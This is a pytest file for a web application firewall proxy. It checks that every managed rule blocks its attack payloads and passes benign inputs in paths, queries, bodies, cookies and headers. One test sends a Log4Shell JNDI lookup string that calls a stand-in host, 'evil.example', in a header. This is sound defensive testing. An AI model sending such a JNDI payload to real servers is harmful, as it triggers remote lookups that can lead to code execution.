"""Every shipped managed rule has a should-block and a should-pass case (issue 4).

One web ACL references every group with all rules overridden to Count, so a request collects the
label of *every* rule it matches (``wafproxy:managed:<group>:<Rule>``) and a test can ask for the
exact rule of the exact placement. Should-pass payloads are also sent through the real default web
ACL and must not be blocked.
"""

from __future__ import annotations

import json
from functools import cache
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from tests.rules.cases import CASES, Case
from wafproxy.aclfiles import load_web_acl
from wafproxy.engine import CompiledWebACL, Decision, WafRequest, evaluate

ROOT = Path(__file__).resolve().parents[2]
MANAGED = ROOT / "rules" / "managed"
DEFAULT_ACL = ROOT / "rules" / "default-web-acl.json"
PLACEMENTS = ("URIPATH", "QUERYARGUMENTS", "BODY", "COOKIE", "HEADER")


def _groups() -> dict[str, dict[str, Any]]:
    out = {}
    for path in sorted(MANAGED.glob("*.json")):
        doc = json.loads(path.read_text(encoding="utf-8"))
        out[path.stem] = doc
    return out


GROUPS = _groups()
RULES = {  # rule name -> group key
    rule["Name"]: key for key, doc in GROUPS.items() for rule in doc["Rules"]
}


@cache
def counting_acl(tmp: Path) -> CompiledWebACL:
    """The default ACL's managed groups with every rule set to Count (labels, never a block)."""
    acl = json.loads(DEFAULT_ACL.read_text(encoding="utf-8"))
    for rule in acl["Rules"]:
        stmt = rule["Statement"].get("ManagedRuleGroupStatement")
        if stmt is None:
            continue
        doc = next(d for d in GROUPS.values() if d["Name"] == stmt["Name"])
        stmt["RuleActionOverrides"] = [{"Name": r["Name"], "ActionToUse": {"Count": {}}} for r in doc["Rules"]]
    path = tmp / "counting-acl.json"
    path.write_text(json.dumps(acl), encoding="utf-8")
    for ipset in (ROOT / "rules" / "ipsets").glob("*.json"):
        (tmp / ipset.name).write_text(ipset.read_text(encoding="utf-8"), encoding="utf-8")
    return load_web_acl(path)


@pytest.fixture(scope="module")
def counting(tmp_path_factory: pytest.TempPathFactory) -> CompiledWebACL:
    return counting_acl(tmp_path_factory.mktemp("acl"))


@pytest.fixture(scope="module")
def default_acl() -> CompiledWebACL:
    return load_web_acl(DEFAULT_ACL)


def request_with(payload: str, placement: str, rule_class: str) -> WafRequest:
    """``payload`` placed as a browser or API client would send it (URL-encoded where needed)."""
    base: dict[str, Any] = {"client_ip": "203.0.113.10", "method": "GET", "uri_path": "/"}
    headers = [("Host", "app.example"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/118.0")]
    enc = quote(payload, safe="")
    if rule_class == "UserAgent_Scanner":
        headers[1] = ("User-Agent", payload)
    elif placement == "URIPATH":
        base["uri_path"] = "/p/" + enc
    elif placement == "QUERYARGUMENTS":
        base["query_string"] = "q=" + enc
    elif placement == "BODY":
        raw = payload.startswith(("<?xml", "{", "--"))
        body = payload.encode() if raw else ("q=" + enc).encode()
        kind = {"<": "application/xml", "{": "application/json"}.get(payload[0], "multipart/form-data; boundary=b")
        headers.append(("Content-Type", kind if raw else "application/x-www-form-urlencoded"))
        base.update(method="POST", body=body, body_size=len(body))
    elif placement == "COOKIE":
        headers.append(("Cookie", "sid=abc; c=" + enc))
    elif placement == "HEADER":
        headers.append(("X-Test", enc))
    return WafRequest(headers=tuple(headers), **base)


def _placements(rule_class: str) -> list[str]:
    return [p for p in PLACEMENTS if f"{rule_class}_{p}" in RULES]


def _label(rule_class: str, placement: str) -> str:
    name = f"{rule_class}_{placement}"
    return f"wafproxy:managed:{RULES[name]}:{name}"


def _expected_labels(rule_class: str, placement: str) -> set[str]:
    """Regex rules read cookies through the Cookie header (HEADER); detectors have COOKIE rules."""
    if f"{rule_class}_{placement}" in RULES:
        return {_label(rule_class, placement)}
    if placement == "COOKIE" and f"{rule_class}_HEADER" in RULES:
        return {_label(rule_class, "HEADER")}
    return set()


PARAMS = [
    pytest.param(case, payload, placement, id=f"{case.rule_class}-{placement}-{i}")
    for case in CASES
    for i, payload in enumerate(case.block)
    for placement in PLACEMENTS
    if _expected_labels(case.rule_class, placement)
]
PASS_PARAMS = [
    pytest.param(case, payload, placement, id=f"{case.rule_class}-{placement}-{i}")
    for case in CASES
    for i, payload in enumerate(case.allow)
    for placement in PLACEMENTS
    if placement == "BODY" or not payload.startswith("--")  # a multipart body is only a body
]


def test_every_rule_has_cases() -> None:
    from tests.rules.test_protocol_rules import REQUEST_CASES  # whole-request classes

    classes = {case.rule_class for case in CASES} | set(REQUEST_CASES)
    for name in RULES:
        assert name.rsplit("_", 1)[0] in classes, f"{name}: no should-block / should-pass case"
    for case in CASES:
        assert case.block and case.allow, case.rule_class
        assert _placements(case.rule_class), f"{case.rule_class}: no shipped rule"


@pytest.mark.parametrize(("case", "payload", "placement"), PARAMS)
def test_should_block(case: Case, payload: str, placement: str, counting: CompiledWebACL) -> None:
    decision = evaluate(counting, request_with(payload, placement, case.rule_class))
    want = _expected_labels(case.rule_class, placement)
    assert want & set(decision.labels), f"{payload!r} in {placement}: labels {decision.labels}"


@pytest.mark.parametrize(("case", "payload", "placement"), PASS_PARAMS)
def test_should_pass(
    case: Case, payload: str, placement: str, counting: CompiledWebACL, default_acl: CompiledWebACL
) -> None:
    request = request_with(payload, placement, case.rule_class)
    labels = set(evaluate(counting, request).labels)
    mine = {lb for p in PLACEMENTS for lb in _expected_labels(case.rule_class, p)}
    assert not labels & mine, f"{payload!r} in {placement}: {labels & mine}"
    decision: Decision = evaluate(default_acl, request)
    if placement == "URIPATH" and ("\r" in payload or "\n" in payload):
        # A line break in a URL path is never legitimate (the protocol group's PathNewline blocks
        # it by design); the class's own rule must still stay quiet, checked above.
        assert decision.terminating_group_rule_id == "PathNewline_URIPATH", decision.terminating_group_rule_id
        return
    assert not decision.blocked, f"{payload!r} in {placement} blocked by {decision.terminating_group_rule_id}"


def test_default_acl_blocks_with_the_managed_rule_and_label(default_acl: CompiledWebACL) -> None:
    decision = evaluate(default_acl, request_with("${jndi:dns://evil.example/a}", "HEADER", "Log4JRCE"))
    assert decision.blocked
    assert decision.terminating_group_rule_id == "Log4JRCE_HEADER"
    assert "wafproxy:managed:known-bad-inputs:Log4JRCE_HEADER" in decision.labels


@pytest.mark.parametrize("placement", ("QUERYARGUMENTS", "BODY", "HEADER", "COOKIE"))
def test_own_benign_inputs_pass(placement: str, default_acl: CompiledWebACL) -> None:
    from tests.rules.benign import BENIGN

    blocked = []
    for text in BENIGN:
        decision = evaluate(default_acl, request_with(text, placement, "benign"))
        if decision.blocked:
            blocked.append((text, decision.terminating_group_rule_id))
    assert not blocked, blocked
